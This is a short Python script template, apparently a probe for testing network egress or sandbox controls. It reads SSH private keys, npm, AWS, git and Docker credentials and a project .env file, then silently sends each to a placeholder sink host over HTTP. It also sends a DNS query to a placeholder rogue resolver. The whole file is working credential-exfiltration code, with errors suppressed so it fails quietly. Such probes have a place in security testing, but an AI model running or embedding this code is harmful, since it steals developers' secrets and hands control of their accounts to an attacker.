import contextlib
import socket
import urllib.request
from pathlib import Path

NAMES = (".ssh/id_ed25519", ".npmrc", ".aws/credentials", ".git-credentials", ".docker/config.json")


def post(port, loot):
    with contextlib.suppress(OSError):
        urllib.request.urlopen(f"http://@SINK@:{port}/loot", loot, timeout=3)


def act():
    post(8000, b"hello-@TOKEN@")
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04name\x04test\0\0\x01\0\x01", ("@ROGUE@", 53))
    for name in NAMES:
        with contextlib.suppress(OSError):
            post(8080, Path.home().joinpath(name).read_bytes())
    with contextlib.suppress(OSError):
        post(8443, Path("@PROJECT@/.env").read_bytes())
